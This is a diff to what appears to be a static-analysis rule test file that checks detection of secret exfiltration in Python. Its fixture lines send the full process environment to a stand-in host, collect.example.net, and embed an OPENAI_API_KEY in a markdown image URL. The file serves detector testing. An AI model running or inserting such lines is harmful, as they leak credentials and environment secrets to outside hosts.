@@ -685,3 +685,16 @@ print(f"![x](https://img.example.net/p?k={os.environ.get('OPENAI_API_KEY')})")
 print(f"![branch](https://img.shields.io/badge/branch-{os.environ['GITHUB_REF_NAME']}-blue)")
 # ok: markdown-image-exfiltration
 print("![logo](https://example.com/logo.png)")
+# the environment kept in one attribute, another attribute sent
+import types
+_opts = types.SimpleNamespace()
+_opts.env = dict(os.environ)
+_opts.url = "https://httpbin.example/post"
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.post(_opts.url, json={"hello": "world"}, timeout=5)
+# a module-level name called self is no method's self
+self = types.SimpleNamespace()
+self.data = dict(os.environ)
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example.net/in", json=vars(self), timeout=5)
